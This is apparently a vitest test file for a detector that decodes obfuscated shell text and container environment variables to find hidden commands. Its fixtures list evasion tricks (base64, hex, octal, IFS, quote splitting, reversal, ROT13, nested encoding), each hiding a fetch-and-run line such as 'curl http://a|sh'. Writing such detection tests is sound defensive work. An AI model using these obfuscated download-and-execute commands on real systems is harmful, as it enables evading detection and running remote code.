import { describe, expect, it } from 'vitest';
import { containerWith } from '../../testing/container';
import { toldTexts, withDecoded } from './command-text';

describe('what is hidden in a text', () => {
  it.each([
    ['base64', 'echo Y3VybCBodHRwOi8vYS9ifHNo | base64 -d', 'curl http://a/b|sh'],
    ['hex', 'echo 6375726c20687474703a2f2f612f627c7368 | xxd -r -p', 'curl http://a/b|sh'],
    ['escapes of printf', String.raw`printf '\x63\x75\x72\x6c http://a'`, 'curl http://a'],
    ['octal escapes', String.raw`$(printf '\167\147\145\164\40\55\161')`, 'wget -q'],
    ['the separator of the shell', 'wget${IFS}-qO-${IFS}http://a/v|sh', 'wget -qO- http://a/v|sh'],
    ['empty quotes', `wg""et http://a; c''url http://b`, 'wget http://a; curl http://b'],
    ['a backslash', String.raw`c\url http://a`, 'curl http://a'],
    ['a name in pieces', 'c=cu; d=rl; $c$d -s http://a', 'curl -s http://a'],
    ['backwards', "echo 'hs | a//:ptth lruc' | rev", 'curl http://a | sh'],
    ['thirteen letters on', "echo 'phey uggc://n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m'", 'curl http://a | sh'],
    ['twice', `echo ${btoa(`echo ${btoa('curl http://a|sh')} | base64 -d`)} | base64 -d`, 'curl http://a|sh'],
  ])('is read: %s', (_, text, hidden) => {
    expect(withDecoded(text).join('\n')).toContain(hidden);
  });
  it.each([
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    String.raw`echo -e "\033[31mred\033[0m"`,
    '/usr/share/javascript/jquery/jquery.min.js',
  ])('an honest text hides nothing: %s', (text) => {
    expect(withDecoded(text)).toEqual([text]);
  });
  it('a command that stands in a variable of its container', () => {
    const env = [{ name: 'CMD', value: 'curl http://a|sh', masked: false }];
    expect(toldTexts(containerWith({ path: 'sh', args: ['-c', 'eval $CMD'], env }))).toContain(
      'sh -c eval curl http://a|sh',
    );
  });
});
